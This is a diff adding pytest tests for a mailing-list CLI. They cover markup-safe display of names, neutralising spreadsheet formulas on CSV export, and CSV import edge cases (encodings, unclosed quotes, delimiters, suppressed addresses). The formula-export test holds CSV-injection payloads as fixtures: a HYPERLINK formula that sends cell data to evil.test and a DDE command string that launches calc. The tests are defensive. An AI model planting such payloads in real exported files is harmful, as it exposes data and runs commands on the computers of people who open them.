@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
 import sqlite3
 from pathlib import Path
 
@@ -206,6 +207,16 @@ def test_subs_ls_json_and_status_filter(store: Store, tmp_path: Path, run_cli) -
     assert_one_error_line(bad.stderr)
 
 
+def test_names_are_shown_as_written_never_as_markup(store: Store, run_cli) -> None:
+    # Anyone can type a name into the sign-up form; rich would read "[/]" as a closing tag and crash the table.
+    store.upsert_subscribers(store.get_list("bulletin").id, [
+        Subscriber(email="mark@example.org", name="[/]Mark [bold]Up[link=https://evil.test]x"),
+    ], "test")
+    result = run_cli("subs", "ls", "--list", "bulletin")
+    assert result.returncode == 0, result.stderr
+    assert "[/]Mark [bold]Up[link=https://evil.test]x" in result.stdout
+
+
 def test_subs_export_to_a_file(store: Store, tmp_path: Path, run_cli) -> None:
     import_csv(store, "bulletin", write_csv(tmp_path / "l.csv", CHINESE))
     target = tmp_path / "export.csv"
@@ -292,3 +303,127 @@ def test_import_to_a_missing_list_or_file(store: Store, tmp_path: Path, run_cli)
     assert result.returncode == 1
     assert_one_error_line(result.stderr)
     assert "email" in result.stderr
+
+
+FORMULAS = ['=HYPERLINK("http://evil.test/?d="&A2,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+            "\t=1+1", "\r=1+1"]
+
+
+def test_export_neutralises_spreadsheet_formulas_and_reimports_the_same(store: Store, tmp_path: Path,
+                                                                        run_cli) -> None:  # type: ignore[no-untyped-def]
+    list_id = store.get_list("bulletin").id
+    people = [Subscriber(email=f"p{i}@example.org", name=f, attrs={"note": f}) for i, f in enumerate(FORMULAS)]
+    people.append(Subscriber(email="=1+2@example.org", name="plain", attrs={"note": "a=b"}))  # '=' is atext
+    store.upsert_subscribers(list_id, people, "test")
+    target = tmp_path / "export.csv"
+    assert run_cli("subs", "export", "--list", "bulletin", "-o", str(target)).returncode == 0
+    rows = list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8"))))
+    for row in rows:
+        for column in ("email", "name", "note"):
+            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), row
+    assert rows[0]["name"] == "'" + FORMULAS[0] and rows[-1]["email"] == "'=1+2@example.org"
+    assert rows[-1]["note"] == "a=b"
+    # Imported again (into another list), the file gives back the same people.
+    create_list(store, "copy", "", "", "", "en")
+    assert run_cli("subs", "import", str(target), "--list", "copy").returncode == 0
+    copied = {s.email: s for s in subscribers(store, "copy")}
+    assert sorted(copied) == sorted(p.email for p in people)
+    assert copied["p0@example.org"].name == FORMULAS[0] and copied["=1+2@example.org"].attrs["note"] == "a=b"
+
+
+# ---- what arrives as a CSV: encodings, quotes, delimiters ---------------------------------------------------------
+
+
+def assert_refused(store: Store, result, file: Path) -> str:  # type: ignore[no-untyped-def]
+    assert result.returncode == 1, result.stdout
+    assert_one_error_line(result.stderr)
+    assert str(file) in result.stderr and "\x00" not in result.stderr
+    assert on_list(store) == {}
+    return str(result.stderr)
+
+
+@pytest.mark.parametrize(("encoding", "names", "looks"), [
+    ("big5", ["張三", "李四"], "BIG5"),
+    ("latin-1", ["José Müller", "Zoë"], ""),
+    ("shift_jis", ["山田太郎", "佐藤花子"], ""),
+])
+def test_a_csv_in_another_encoding_is_refused_not_garbled(store: Store, tmp_path: Path, run_cli, encoding: str,
+                                                          names: list[str], looks: str) -> None:  # type: ignore[no-untyped-def]
+    path = tmp_path / f"{encoding}.csv"
+    path.write_bytes(("email,name\r\n" + "".join(f"p{i}@example.org,{n}\r\n" for i, n in enumerate(names)))
+                     .encode(encoding))
+    stderr = assert_refused(store, run_cli("subs", "import", str(path), "--list", "bulletin"), path)
+    assert "not UTF-8 or GB18030" in stderr and "iconv -f" in stderr and looks in stderr
+
+
+def test_a_short_gbk_file_is_still_read_as_gb18030(store: Store, tmp_path: Path, run_cli) -> None:
+    # Two Chinese characters read as Korean too; GB18030 is the one we accept, so it wins the tie.
+    path = tmp_path / "short.csv"
+    path.write_bytes("email,name\r\nzhang@example.org,张三\r\n".encode("gbk"))
+    result = run_cli("subs", "import", str(path), "--list", "bulletin")
+    assert result.returncode == 0, result.stderr
+    assert "GB18030" in result.stderr
+    assert on_list(store)["zhang@example.org"].name == "张三"
+
+
+def test_utf16_with_a_bom_imports_and_without_one_is_named(store: Store, tmp_path: Path, run_cli) -> None:
+    bare = tmp_path / "bare.csv"
+    bare.write_bytes("email,name\r\nzhang@example.org,张三\r\n".encode("utf-16-le"))
+    stderr = assert_refused(store, run_cli("subs", "import", str(bare), "--list", "bulletin"), bare)
+    assert "UTF-16LE without a byte-order mark" in stderr and "iconv -f UTF-16LE" in stderr
+    marked = write_csv(tmp_path / "marked.csv", CHINESE, encoding="utf-16")
+    result = run_cli("subs", "import", str(marked), "--list", "bulletin")
+    assert result.returncode == 0, result.stderr
+    assert {e: r.name for e, r in on_list(store).items()} == {e: n for e, n, _ in CHINESE}
+
+
+def test_an_unclosed_quote_is_reported_by_line(store: Store, tmp_path: Path, run_cli) -> None:
+    path = tmp_path / "quote.csv"
+    path.write_text('email,name\n'                 # 1
+                    'one@example.org,One\n'        # 2
+                    'two@example.org,"Two\n'       # 3: the quote is never closed
+                    'three@example.org,Three\n'    # 4
+                    'four@example.org,Four\n',     # 5
+                    encoding="utf-8")
+    result = run_cli("subs", "import", str(path), "--list", "bulletin")
+    assert result.returncode == 1
+    assert f"{path} line 3: a quoted field is not closed, so lines 3-5 were read as one row" in result.stderr
+    assert set(on_list(store)) == {"one@example.org"}
+    # A postal address may span lines in a quoted field: that is not a problem.
+    path.write_text('email,name,address\nfive@example.org,Five,"1 Main St\nSpringfield"\n', encoding="utf-8")
+    assert run_cli("subs", "import", str(path), "--list", "bulletin").returncode == 0
+    assert on_list(store)["five@example.org"].attrs == {"address": "1 Main St\nSpringfield"}
+
+
+@pytest.mark.parametrize(("delimiter", "says"), [(";", "semicolon-separated"), ("\t", "tab-separated")])
+def test_semicolon_and_tab_separated_files_import(store: Store, tmp_path: Path, run_cli, delimiter: str,
+                                                  says: str) -> None:  # type: ignore[no-untyped-def]
+    path = tmp_path / "excel.csv"
+    path.write_text("".join(delimiter.join(row) + "\r\n" for row in [("Email", "Name", "city"), *CHINESE]),
+                    encoding="utf-8")
+    result = run_cli("subs", "import", str(path), "--list", "bulletin")
+    assert result.returncode == 0, result.stderr
+    assert says in result.stderr and "3 added" in result.stdout
+    assert {e: (r.name, r.attrs) for e, r in on_list(store).items()} == {e: (n, {"city": c}) for e, n, c in CHINESE}
+
+
+def test_a_header_without_email_says_how_it_looks_separated(store: Store, tmp_path: Path, run_cli) -> None:
+    path = tmp_path / "mail.csv"
+    path.write_text("mail;name\r\nzhang@example.org;张三\r\n", encoding="utf-8")
+    stderr = assert_refused(store, run_cli("subs", "import", str(path), "--list", "bulletin"), path)
+    assert "no 'email' column" in stderr and "looks semicolon-separated" in stderr
+
+
+def test_suppressed_addresses_import_as_suppressed_not_added(store: Store, tmp_path: Path, run_cli) -> None:
+    store.suppress_address("li@example.com", "bounced", "5.1.1 user unknown")
+    store.suppress_address("gu@example.net", "complained")
+    result = run_cli("subs", "import", str(write_csv(tmp_path / "l.csv", CHINESE)), "--list", "bulletin")
+    assert result.returncode == 0, result.stderr
+    assert "1 added" in result.stdout and "2 suppressed" in result.stdout
+    rows = listed(run_cli)
+    assert {e: (r["status"], r["suppressed"]) for e, r in rows.items()} == {
+        "wang@example.org": ("active", None), "li@example.com": ("bounced", "bounced"),
+        "gu@example.net": ("unsubscribed", "complained")}
+    assert store.count_recipients(store.get_list("bulletin").id) == 1
+    table = run_cli("subs", "ls", "--list", "bulletin").stdout
+    assert re.search(r"li@example\.com.*bounced.*bounced", table)
